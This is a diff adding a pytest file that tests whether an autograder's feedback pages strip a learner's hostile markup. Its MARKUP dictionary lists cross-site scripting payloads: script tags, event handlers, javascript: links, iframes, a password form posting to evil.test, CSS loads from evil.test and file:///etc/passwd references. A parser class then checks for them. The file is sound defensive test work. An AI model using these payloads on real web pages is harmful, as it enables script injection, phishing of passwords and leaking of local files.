@@ -1,0 +1,212 @@
+"""Can a feedback page be opened without anything of a learner's running, loading or covering it?"""
+
+from __future__ import annotations
+
+import json
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import pytest
+from nbgrader.converters.base import NbGraderException
+
+from autograder.marking import feedback
+from autograder.marking.course import Course, NoSuchThing
+from autograder.marking.feedback import clean_html, write_feedback
+from autograder.marking.gradebook import open_book
+from autograder.marking.notebook import Marked
+from autograder.marking.restore import restore, to_notebook
+from autograder.marking.room import _FORMS, _output
+from autograder.marking.submission import parse
+from tests.conftest import ASSIGNMENT
+from tests.marking.paper import as_bytes, own, paper
+
+ALERT = "alert(document.domain)"
+MARKUP = {
+    "a script": f"<script>{ALERT}</script>",
+    "a script in capitals": f"<SCRIPT SRC=//evil.test/x.js></SCRIPT><ScRiPt>{ALERT}</sCrIpT>",
+    "a script that ends the page's": f"</script><script>{ALERT}</script>",
+    "a script after a text": f"</title></style></textarea></pre></div><script>{ALERT}</script>",
+    "an event": f"<img src=x onerror={ALERT}><body onload={ALERT}><div onclick={ALERT}>x</div>",
+    "an event in a picture": f'<svg onload="{ALERT}"><animate onbegin="{ALERT}"/></svg>',
+    "a script in a picture": f"<svg><script>{ALERT}</script></svg>",
+    "a link that runs": f'<a href="javascript:{ALERT}">x</a><a href=" jAvA\tscript:{ALERT}">y</a>',
+    "a link to data": f'<a href="data:text/html,<script>{ALERT}</script>">x</a>',
+    "a frame": f'<iframe src="//evil.test"></iframe><iframe srcdoc="<script>{ALERT}</script>">',
+    "an object": '<object data="//evil.test"></object><embed src="//evil.test"><applet code=x>',
+    "a form": '<form action="//evil.test"><input name=password autofocus><button>Go</button></form>',
+    "a base": '<base href="//evil.test/"><link rel=stylesheet href="//evil.test/x.css">',
+    "a redirection": '<meta http-equiv="refresh" content="0;url=//evil.test">',
+    "a style": "<style>@import '//evil.test/x.css'; body{background:url(//evil.test)}</style>",
+    "a style that loads": '<p style="background:url(//evil.test/x.png)">x</p>',
+    "a style that covers": '<div style="position:fixed;top:0;left:0;z-index:9">Your mark: 16</div>',
+    "a picture from elsewhere": '<img src="//evil.test/x.png"><img srcset="//evil.test/y.png 2x">',
+    "a video": '<video src="//evil.test" poster="//evil.test"></video><audio src="//evil.test">',
+    "a template": f"<template><script>{ALERT}</script></template><noscript><p title='</noscript>"
+    f"<img src=x onerror={ALERT}>'>",
+    "mathematics": f'<math><mtext><table><mglyph><style><img src=x onerror="{ALERT}">',
+    "a half tag": f"<img src=x onerror={ALERT}",
+    "a comment": f"<!--><img src=x onerror={ALERT}>--><!--[if IE]><script>{ALERT}</script>",
+    "a closing quote": f'"><img src=x onerror={ALERT}><x y="',
+    "the course's files": '<img src="../../../gradebook.db"><img src="file:///etc/passwd">',
+}
+
+
+class _Page(HTMLParser):
+    """What in a page could run, load or cover."""
+
+    VOID_OF_HARM = frozenset(("class", "id", "title", "alt", "role", "lang", "name", "content"))
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.bad: list[str] = []
+        self._inside = ""
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self._inside = tag
+        for name, value in attrs:
+            value = value or ""
+            plain = re.sub(r"[\s\0]", "", value).lower()
+            if name.startswith("on") or plain.startswith(("javascript:", "vbscript:")):
+                self.bad.append(f"{tag} {name}={value}")
+            if "evil.test" in value and not (tag == "a" and name == "href"):
+                self.bad.append(f"{tag} {name}={value}")
+            if name in ("srcdoc", "autofocus") or ("position" in value and name == "style"):
+                self.bad.append(f"{tag} {name}={value}")
+            if name == "src" and ("gradebook" in value or "passwd" in value):
+                self.bad.append(f"{tag} {name}={value}")
+        if tag in ("iframe", "object", "embed", "form", "base", "applet", "video", "audio"):
+            self.bad.append(tag)
+
+    def handle_endtag(self, tag: str) -> None:
+        self._inside = ""
+
+    def handle_data(self, data: str) -> None:
+        if self._inside in ("script", "style") and (ALERT in data or "evil.test" in data):
+            self.bad.append(f"{self._inside}: {data[:80]}")
+
+
+@pytest.mark.parametrize("name", MARKUP)
+def test_cleaned_markup_does_nothing(name):
+    """Is each way of running, loading or covering something taken out of HTML?"""
+    assert _Page(clean_html(MARKUP[name])).bad == []
+
+
+def test_the_page_is_looked_at_closely_enough():
+    """Does this test see what is bad in the same markup before it is cleaned?"""
+    seen = {name for name, text in MARKUP.items() if _Page(text).bad}
+    # The rest is bad only to a browser, which mends what it reads, or in a page around it.
+    assert MARKUP.keys() - seen <= {
+        "a half tag",
+        "a closing quote",
+        "a redirection",
+        "a comment",
+        "a link to data",
+        "a template",
+        "a style",
+        "a script in capitals",
+        "mathematics",
+    }
+
+
+def _outputs(text: str) -> list[dict[str, Any]]:
+    """Return outputs of every kind that carry this text, as a hostile session may send them."""
+    forms = (
+        *("text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "image/png"),
+        *("image/jpeg", "application/javascript", "application/json", "application/pdf"),
+        *("text/x-unknown", "application/vnd.jupyter.widget-view+json", "text/vnd.mermaid"),
+    )
+    data = [
+        {"output_type": kind, "metadata": {}, "data": {form: text}}
+        | ({"execution_count": None} if kind == "execute_result" else {})
+        for form in forms
+        for kind in ("display_data", "execute_result")
+    ]
+    streams = [
+        {"output_type": "stream", "name": name, "text": f"\x1b[31m{text}\x1b]8;;{text}\x07"}
+        for name in ("stdout", "stderr")
+    ]
+    error = {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]}
+    return [*data, *streams, error]
+
+
+@pytest.fixture(scope="module")
+def page(root: Path, released: dict[str, Any], tmp_path_factory: pytest.TempPathFactory) -> str:
+    """A feedback page of a submission that tries all of it, in every place there is."""
+    klass = tmp_path_factory.mktemp("class")
+    (klass / "secret.txt").write_text("SECRET MARKS")
+    notebook = paper(released)
+    for text in MARKUP.values():
+        notebook["cells"] += [own(text), own(text, "markdown"), own(text, "raw")]
+    notebook["cells"] += [
+        own(f"![x](../../../../secret.txt) [x](javascript:{ALERT}) <javascript:{ALERT}>"),
+        own(f"![x](../../../../secret.txt) [x](javascript:{ALERT})", "markdown"),
+        own(f"$$\\href{{javascript:{ALERT}}}{{x}}$$ `</code><script>{ALERT}</script>`", "markdown"),
+        own(
+            f"```html\n</pre><script>{ALERT}</script>\n```\n# </h1><script>{ALERT}</script>",
+            "markdown",
+        ),
+    ]
+    cells, _ = parse(as_bytes(notebook), "x.ipynb")
+    parts, _ = restore(released, tuple(cells))
+    everything = [_output(output) for text in MARKUP.values() for output in _outputs(text)]
+    outputs = [everything if part.name == "setup" else [] for part in parts]
+    marked = to_notebook(released, parts, outputs)
+    folder = klass / "autograded" / "mallory" / ASSIGNMENT
+    folder.mkdir(parents=True)
+    (folder / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(marked), encoding="utf-8")
+    course = Course(root, klass)
+    with open_book(course) as book:
+        book.add_assignment(ASSIGNMENT)
+        (klass / "submitted" / "mallory" / ASSIGNMENT).mkdir(parents=True)
+        book.record(Marked("mallory", ASSIGNMENT, notebook=json.dumps(marked)))
+    (path,) = write_feedback(course, ASSIGNMENT, ["mallory"])
+    return path.read_text(encoding="utf-8")
+
+
+def test_only_what_a_page_can_show_is_kept():
+    """Are widgets, scripts and forms that nobody knows left out of a marked notebook?"""
+    kept = {form for output in map(_output, _outputs("x")) for form in output.get("data", {})}
+    assert kept == set(_FORMS)
+    assert not any("javascript" in form or "widget" in form for form in kept)
+
+
+def test_one_page_that_fails_stops_no_other(root, released, tmp_path, monkeypatch):
+    """Are all other pages written, and the one named that could not be?"""
+    course = Course(root, tmp_path)
+    wrote = []
+
+    def write(_course: Course, _assignment: str, learner: str) -> None:
+        if learner == "b":
+            raise NbGraderException("broken")
+        wrote.append(learner)
+
+    monkeypatch.setattr(feedback, "_write", write)
+    for learner in "abc":
+        path = tmp_path / "autograded" / learner / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+        path.parent.mkdir(parents=True)
+        path.write_text("{}")
+    with pytest.raises(NoSuchThing, match="feedback for b could not"):
+        list(write_feedback(course, ASSIGNMENT, ["a", "b", "c", "d"]))
+    assert wrote == ["a", "c"]
+
+
+def test_nothing_of_the_learners_runs_in_the_page(page):
+    """Does a page with all of it, as outputs and as text, run and load nothing of the learner's?"""
+    assert _Page(page).bad == []
+
+
+def test_the_pages_scripts_are_nbgraders_own(page, root, released, tmp_path):
+    """Does no script in the page hold a word of the learner's?"""
+    for script in re.findall(r"<script\b.*?</script\s*>", page, re.DOTALL | re.IGNORECASE):
+        assert "alert(" not in script
+        assert "evil" not in script
+
+
+def test_no_file_of_the_course_gets_into_the_page(page):
+    """Does a picture that points at a file leave the file's content out?"""
+    assert "SECRET MARKS" not in page
+    assert "U0VDUkVUIE1BUktT" not in page  # the same in base 64
